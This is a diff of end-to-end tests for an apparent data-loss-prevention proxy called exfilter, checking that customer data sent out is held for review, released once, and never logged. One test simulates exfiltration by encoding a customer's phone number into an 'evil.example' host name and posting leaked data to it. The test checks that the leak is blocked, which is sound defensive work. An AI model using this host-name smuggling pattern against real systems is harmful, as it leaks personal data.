@@ -18,7 +18,7 @@ from exfilter.index import build, keys
 from exfilter.quarantine import Quarantine, State
 from fixtures.customers import customers, write_csv
 from tests.e2e.conftest import PEOPLE
-from tests.e2e.house import Proxy, exfilter, http, https
+from tests.e2e.house import Proxy, Shared, copy, exfilter, http, https
 from tests.e2e.raw import Sink
 
 if TYPE_CHECKING:
@@ -31,8 +31,20 @@ CHUNKED = ("-H", "Transfer-Encoding: chunked")
 
 
 @pytest.fixture
-def proxy(folder: Path, far_end: FarEnd) -> Iterator[Proxy]:
+def proxy(shared: Shared) -> Proxy:
+    return shared.begin()
+
+
+@pytest.fixture
+def own(folder: Path, far_end: FarEnd) -> Iterator[Proxy]:
+    """Open a door of the test's own: what it releases and lists is only its own."""
     with Proxy(folder, ("--upstream-ca", str(far_end.ca))) as proxy:
+        yield proxy
+
+
+@pytest.fixture(scope="module")
+def trusting_nobody(template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
+    with Proxy(copy(template, tmp_path_factory.mktemp("distrust") / "config")) as proxy:
         yield proxy
 
 
@@ -54,15 +66,15 @@ def test_an_ordinary_form_arrives_byte_for_byte_over_http_and_https(
     ] * 2
 
 
-def test_a_customer_in_a_host_name_is_in_no_log_and_no_list(proxy: Proxy, leak: bytes) -> None:
+def test_a_customer_in_a_host_name_is_in_no_log_and_no_list(own: Proxy, leak: bytes) -> None:
     person = next(each for each in customers(PEOPLE) if each.phone)
     digits = "".join(filter(str.isdigit, person.phone))
-    assert proxy.curl(f"http://x-{digits}.evil.example/", data=leak).status == 403
-    (line,) = proxy.decisions()
-    listed = exfilter("quarantine", "list", "--format", "json", "--config", proxy.folder).stdout
+    assert own.curl(f"http://x-{digits}.evil.example/", data=leak).status == 403
+    (line,) = own.decisions()
+    listed = exfilter("quarantine", "list", "--format", "json", "--config", own.folder).stdout
     assert line["destination"] == json.loads(listed)[0]["destination"] != ""
     assert line["destination"].endswith(".evil.example")
-    kept = [file for file in proxy.folder.rglob("*") if file.is_file()]
+    kept = [file for file in own.folder.rglob("*") if file.is_file()]
     assert not [file.name for file in kept if digits.encode() in file.read_bytes()]
 
 
@@ -74,15 +86,17 @@ def test_a_customer_in_a_host_name_is_in_no_log_and_no_list(proxy: Proxy, leak: 
 def test_a_customer_list_is_held_and_not_a_byte_arrives(
     proxy: Proxy, far_end: FarEnd, leak: bytes, arguments: tuple[str, ...]
 ) -> None:
+    ids = set()
     for url in urls(far_end):
         reply = proxy.curl(url, *arguments, data=leak)
+        ids.add(reply.transfer_id)
         assert reply.status == 403
         assert reply.transfer_id
         assert reply.transfer_id in reply.body
         assert "held for review" in reply.body.lower()
         assert "@" not in reply.body
     assert (far_end.connections, far_end.body_bytes) == (0, 0)
-    held = Quarantine.open(proxy.folder / "quarantine").entries()
+    held = [entry for entry in Quarantine.open(proxy.folder / "quarantine").entries() if entry.id in ids]
     assert {entry.destination for entry in held} == {"127.0.0.1", "localhost"}
     assert {line["held"] for line in proxy.decisions() if line["method"] in {"POST", "PUT"}} == {True}
 
@@ -140,13 +154,13 @@ def test_a_tunnel_that_speaks_something_else_carries_nothing(
     assert far_end.connections == 0
 
 
-def test_a_release_passes_once(proxy: Proxy, far_end: FarEnd, leak: bytes) -> None:
-    first = proxy.curl(http(far_end), data=leak)
-    with Quarantine.open(proxy.folder / "quarantine") as quarantine:
+def test_a_release_passes_once(own: Proxy, far_end: FarEnd, leak: bytes) -> None:
+    first = own.curl(http(far_end), data=leak)
+    with Quarantine.open(own.folder / "quarantine") as quarantine:
         quarantine.release(first.transfer_id, "reviewer", "a test file")
-    assert proxy.curl(http(far_end), "-X", "PUT", data=leak).status == 403
-    assert proxy.curl(http(far_end), data=leak).status == 200
-    again = proxy.curl(http(far_end), data=leak)
+    assert own.curl(http(far_end), "-X", "PUT", data=leak).status == 403
+    assert own.curl(http(far_end), data=leak).status == 200
+    again = own.curl(http(far_end), data=leak)
     assert again.status == 403
     assert again.transfer_id != first.transfer_id
     assert [arrival.bytes for arrival in far_end.arrivals] == [len(leak)]
@@ -158,55 +172,54 @@ def free_port() -> int:
         return port
 
 
-def test_a_release_is_not_used_up_by_a_destination_that_is_down(proxy: Proxy, leak: bytes) -> None:
+def test_a_release_is_not_used_up_by_a_destination_that_is_down(own: Proxy, leak: bytes) -> None:
     port = free_port()
     url = f"http://127.0.0.1:{port}/upload"
-    first = proxy.curl(url, data=leak)
-    with Quarantine.open(proxy.folder / "quarantine") as quarantine:
+    first = own.curl(url, data=leak)
+    with Quarantine.open(own.folder / "quarantine") as quarantine:
         quarantine.release(first.transfer_id, "reviewer", "a test file")
         for _ in range(2):
-            down = proxy.curl(url, data=leak)
+            down = own.curl(url, data=leak)
             assert (down.status, down.transfer_id) == (502, first.transfer_id)
             assert "Destination not reached" in down.body
         assert "could not be reached" in (quarantine.show(first.transfer_id).refused or "")
     with Sink(place=("127.0.0.1", port)) as sink:
-        assert proxy.curl(url, data=leak).status == 200
-        assert proxy.curl(url, data=leak).status == 403
+        assert own.curl(url, data=leak).status == 200
+        assert own.curl(url, data=leak).status == 403
         assert sink.received.count(leak) == 1
 
 
-def test_a_release_is_used_up_by_a_destination_that_breaks_off(proxy: Proxy, leak: bytes) -> None:
+def test_a_release_is_used_up_by_a_destination_that_breaks_off(own: Proxy, leak: bytes) -> None:
     with socket.create_server(("127.0.0.1", 0)) as listening:
         url = f"http://127.0.0.1:{listening.getsockname()[1]}/upload"
-        first = proxy.curl(url, data=leak)
-        with Quarantine.open(proxy.folder / "quarantine") as quarantine:
+        first = own.curl(url, data=leak)
+        with Quarantine.open(own.folder / "quarantine") as quarantine:
             quarantine.release(first.transfer_id, "reviewer", "a test file")
         with ThreadPoolExecutor(1) as pool:
-            replying = pool.submit(proxy.curl, url, data=leak)
+            replying = pool.submit(own.curl, url, data=leak)
             with listening.accept()[0] as taken:
                 assert taken.recv(1000)
             broken = replying.result(30)
         assert (broken.status, broken.transfer_id) == (502, first.transfer_id)
         assert "Some of this transfer may have reached it" in broken.body
-        assert proxy.curl(url, data=leak).status == 403
+        assert own.curl(url, data=leak).status == 403
 
 
 @pytest.mark.parametrize("version", ["--http1.1", "--http2"])
 @pytest.mark.parametrize("accept", ["text/html", "application/json"])
 def test_a_destination_that_cannot_be_reached_is_told_in_our_own_words(
-    folder: Path, far_end: FarEnd, form: bytes, version: str, accept: str
+    trusting_nobody: Proxy, far_end: FarEnd, form: bytes, version: str, accept: str
 ) -> None:
     down = f"127.0.0.1:{free_port()}"
-    with Proxy(folder) as proxy:
-        # The last one is there, and its certificate is not to be trusted.
-        for url in (f"http://{down}/", f"https://{down}/", https(far_end)):
-            reply = proxy.curl(url, version, "-H", f"Accept: {accept}", data=form)
-            assert (reply.status, reply.transfer_id) == (502, "")
-            assert reply.headers["content-type"].startswith(accept)
-            assert "Destination not reached" in reply.body
-            assert "mitmproxy" not in (reply.body + repr(reply.headers)).lower()
-            head = proxy.curl(url, version, "-I")
-            assert (head.status, head.body.count("<")) == (502, 0)
+    # The last one is there, and its certificate is not to be trusted.
+    for url in (f"http://{down}/", f"https://{down}/", https(far_end)):
+        reply = trusting_nobody.curl(url, version, "-H", f"Accept: {accept}", data=form)
+        assert (reply.status, reply.transfer_id) == (502, "")
+        assert reply.headers["content-type"].startswith(accept)
+        assert "Destination not reached" in reply.body
+        assert "mitmproxy" not in (reply.body + repr(reply.headers)).lower()
+        head = trusting_nobody.curl(url, version, "-I")
+        assert (head.status, head.body.count("<")) == (502, 0)
     assert far_end.body_bytes == 0
 
 
@@ -300,10 +313,9 @@ def test_users_are_actors_and_passwords_are_nowhere(folder: Path, far_end: FarEn
 
 
 def test_a_certificate_of_an_unknown_authority_is_not_trusted(
-    folder: Path, far_end: FarEnd, form: bytes
+    trusting_nobody: Proxy, far_end: FarEnd, form: bytes
 ) -> None:
-    with Proxy(folder) as proxy:
-        assert proxy.curl(https(far_end), data=form).status == 502
+    assert trusting_nobody.curl(https(far_end), data=form).status == 502
     assert far_end.body_bytes == 0
 
 
